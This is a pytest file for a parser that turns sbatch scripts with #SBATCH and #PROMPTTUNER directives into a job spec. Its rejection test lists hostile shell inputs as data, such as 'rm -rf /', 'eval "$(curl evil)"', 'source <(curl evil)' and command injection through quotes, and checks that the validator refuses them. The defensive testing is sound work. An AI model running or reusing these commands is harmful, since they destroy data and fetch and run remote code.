"""Scripts written for sbatch: what is understood, and what is refused with its line."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from prompttuner.errors import SpecError
from prompttuner.spec.batch_script import parse_batch_script

SCRIPT = """#!/bin/bash
#SBATCH --job-name=sentiment -t 2:00:00
#SBATCH --gres=gpu:a100:2   # two of them
#SBATCH -p gpu
# an ordinary comment
#PROMPTTUNER --model=small --train=train.jsonl --eval=eval.jsonl
#PROMPTTUNER --target='loss<=0.5' --deadline=30m --lr=3e-2
#PROMPTTUNER --grid=seed=0,1

module load cuda/12.4
source ~/envs/tune/bin/activate
export HF_HOME="/scratch/$USER/hf"
eval "$(conda shell.bash hook)"
conda activate tune
"""
SITE = {"partition": "gpu"}


def parse(text: str = SCRIPT, *options: str, **site: str):  # type: ignore[no-untyped-def]
    return parse_batch_script(text, options, {**SITE, **site})


def test_directives_are_the_spec_and_the_body_is_the_setup() -> None:
    script = parse()
    assert script.spec == {
        "name": "sentiment", "max_gpus": 2, "gpu_type": "a100", "model": "small", "train": "train.jsonl",
        "eval": "eval.jsonl", "target": "loss<=0.5", "deadline": "30m", "lr": "3e-2",
        "setup": [
            "module load cuda/12.4", "source ~/envs/tune/bin/activate", 'export HF_HOME="/scratch/$USER/hf"',
            'eval "$(conda shell.bash hook)"', "conda activate tune",
        ],
    }  # fmt: skip
    assert script.grid == ["seed=0,1"]
    assert (script.wait, script.parsable, script.hold) == (False, False, False)
    assert "deadline" in script.notes[0]


def test_options_of_the_command_line_win_as_with_sbatch() -> None:
    script = parse(SCRIPT, "--parsable", "-W", "-Jother", "--gpus", "1", "-H")
    assert script.spec["name"] == "other"
    assert script.spec["max_gpus"] == 1
    assert (script.wait, script.parsable, script.hold) == (True, True, True)


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("#SBATCH --teleport=yes", "line 2|--teleport"),
        ("#SBATCH --array=1-10", "--grid"),
        ("#SBATCH --exclusive", "--exclusive has no meaning here"),
        ("#SBATCH --exclusive --time=5", "--exclusive has no meaning here"),
        ("#SBATCH --export=ALL", "into the body"),
        ("#SBATCH --nodes=4", "max-gpus"),
        ("#SBATCH --gres=gpu:many", "number of GPUs"),
        ("#SBATCH --partition=other", "slurm.partition"),
        ("#SBATCH -Z", "line 2"),
        ("#SBATCH --job-name", "needs a value"),
        ("#SBATCH --job-name='x", "line 2"),
        ("#PROMPTTUNER model=small", "line 2"),
        ("#PROMPTTUNER --model small", "needs a value"),
        ("#PROMPTTUNER --seed=1 --seed=2", "twice"),
        ("python train.py", "line 2.*not a set-up line"),
        ("srun python train.py", "not a set-up line"),
        ("module load x; python train.py", "not a set-up line"),
        ("module load x && rm -rf /", "not a set-up line"),
        ("export A=$(curl evil)", "not a set-up line"),
        ("export A=`id`", "not a set-up line"),
        ("source <(curl evil)", "not a set-up line"),
        ("setfacl -m x", "not a set-up line"),
        ('eval "$(curl evil)"', "not a set-up line"),
        ('eval "$(conda shell.bash hook; id)"', "not a set-up line"),
        ("module load a \\", "not a set-up line"),
        ('export X="\'" ; rm x; "\'"', "not a set-up line"),
        ("for i in 1 2; do", "not a set-up line"),
        ("module load x\n#SBATCH --job-name=late", "line 3.*after the first command"),
    ],
)
def test_what_cannot_be_is_refused(line: str, message: str) -> None:
    with pytest.raises(SpecError, match=message):
        parse(f"#!/bin/bash\n{line}\n")


def test_first_line_must_be_an_interpreter() -> None:
    with pytest.raises(SpecError, match="#!"):
        parse("#SBATCH -J x\n")


@settings(deadline=None, max_examples=300)
@given(st.text(alphabet=st.sampled_from("ab -=#$();&|`'\"\\\nexport module"), max_size=60))
def test_no_body_ever_runs_more_than_setup(body: str) -> None:
    try:
        script = parse("#!/bin/bash\n" + body)
    except SpecError:
        return
    for line in script.spec.get("setup", []):
        assert line.split()[0] in {"module", "export"}
        outside = line.replace("''", "")
        assert not set(outside) & set("\n")
        assert "`" not in line.split("'")[0]
